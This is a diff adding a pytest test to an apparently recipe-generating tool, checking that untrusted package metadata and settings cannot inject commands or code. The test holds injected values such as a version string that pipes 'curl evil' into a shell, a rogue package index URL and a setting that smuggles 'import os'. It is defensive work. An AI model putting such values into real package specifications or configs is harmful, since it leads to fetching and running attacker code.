@@ -220,6 +220,18 @@ def test_the_libraries_are_pinned_as_measured(tmp_path: Path) -> None:
     assert all("==" in line and "+" not in line for line in lines)
 
 
+def test_nothing_from_the_results_of_others_becomes_a_command_or_a_program(tmp_path: Path) -> None:
+    case = made(tmp_path)
+    results = measured(case)
+    packages = {"torch": "2.0; curl evil|sh #", "trl": "--index-url=http://evil"}
+    foreign = replace(results, provenance=replace(results.provenance, packages=packages))
+    files = recipes.files(recipes.chosen(case, foreign))
+    assert "evil" not in "".join(files.values())
+    hostile = made(tmp_path / "other", settings='max_steps = "0\\nimport os"')
+    with pytest.raises(BadInput, match="max_steps cannot be"):
+        recipes.files(recipes.chosen(hostile, None))
+
+
 def test_the_readme_says_what_was_measured_and_what_is_to_be_checked(tmp_path: Path) -> None:
     case = made(tmp_path, EMBEDDED)
     found = Finding(file="a", line=1, code="c", severity="error", message="m")
